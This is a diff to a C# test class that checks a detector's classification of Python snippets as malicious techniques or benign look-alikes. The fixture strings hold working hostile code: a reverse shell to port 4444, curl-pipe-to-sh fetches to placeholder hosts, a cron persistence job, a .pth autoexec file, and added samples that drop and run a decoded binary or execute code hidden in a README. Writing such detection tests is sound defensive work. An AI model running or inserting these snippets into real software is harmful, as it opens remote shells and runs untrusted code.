@@ -78,6 +78,8 @@ public sealed class TechniqueFamilyTests
     [InlineData("import socket, subprocess\ns = socket.create_connection(('192.0.2.1', 4444))\nsubprocess.call(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n", "reverse-shell")]
     [InlineData("import os, threading\nthreading.Thread(target=os.system, args=('curl -s http://x.invalid/a | sh',)).start()\n", "install-time-execution")]
     [InlineData("import atexit, subprocess, base64\natexit.register(subprocess.call, base64.b64decode('Y3VybCB4fHNo').decode(), shell=True)\n", "obfuscated-exec")]
+    [InlineData("import base64, os, subprocess\nwith open('/tmp/.x', 'wb') as f:\n    f.write(base64.b64decode('f0VMRgIBAQAAAAAAAAAAAA=='))\nos.chmod('/tmp/.x', 0o755)\nsubprocess.Popen(['/tmp/.x'])\n", "obfuscated-exec")]
+    [InlineData("import os\nhere = os.path.dirname(__file__)\ntext = open(os.path.join(here, 'README.txt')).read()\nexec(text.split('#--payload--')[1])\n", "obfuscated-exec")]
     [InlineData("import yaml\nyaml.load('!!python/object/apply:os.system [\"id\"]', Loader=yaml.Loader)\n", "obfuscated-exec")]
     [InlineData("from crontab import CronTab\ncron = CronTab(user=True)\ncron.new(command='curl -s http://x.invalid/c | sh').minute.every(5)\ncron.write()\n", "persistence")]
     [InlineData("import os, site\nwith open(os.path.join(site.getsitepackages()[0], 'zz_init.pth'), 'w') as f:\n    f.write('import os; os.system(\"id\")\\n')\n", "pth-autoexec")]
@@ -135,6 +137,8 @@ public sealed class TechniqueFamilyTests
     [InlineData("setup.py", "v = {}\nexec(open('demo_pkg/version.py').read(), v)\nfrom setuptools import setup\nsetup(version=v['__version__'])\n")]
     [InlineData("demo_pkg/mail.py", "import smtplib, os\n\ndef send(msg):\n    with smtplib.SMTP(os.environ.get('SMTP_HOST', 'localhost')) as s:\n        s.send_message(msg)\n")]
     [InlineData("demo_pkg/__init__.py", "import os\nHOOK = os.path.join('.git', 'hooks')\n\ndef hooks_dir(root):\n    return os.path.join(root, HOOK)\n")]
+    [InlineData("setup.py", "from setuptools import setup\nns = {}\nexec(open('demo_pkg/_version.py').read().split('\\n# end')[0], ns)\nsetup(version=ns['__version__'])\n")]
+    [InlineData("demo_pkg/__init__.py", "import os, threading\n\ndef _warm():\n    pass\n\nthreading.Thread(target=_warm, daemon=True).start()\n")]
     [InlineData("demo_pkg/util.py", "def rev(s):\n    return ''.join(reversed(s))\n\nKEY = ''.join(chr(c) for c in [97, 98])\n")]
     public async Task Benign_look_alikes_stay_benign(string path, string code)
     {
